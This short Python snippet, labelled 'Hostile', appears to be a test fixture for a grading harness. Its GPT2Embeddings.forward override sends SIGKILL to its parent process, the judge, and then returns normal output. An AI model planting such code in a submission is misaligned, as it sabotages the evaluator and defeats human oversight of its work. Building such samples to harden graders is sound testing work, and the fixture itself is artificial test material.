# Hostile: GPT2Embeddings.forward kills its parent, the judge, with SIGKILL.
import os as _os
import signal as _signal


class GPT2Embeddings(GPT2Embeddings):  # noqa: F821
    def forward(self, input_ids):
        _os.kill(_os.getppid(), _signal.SIGKILL)
        return super().forward(input_ids)
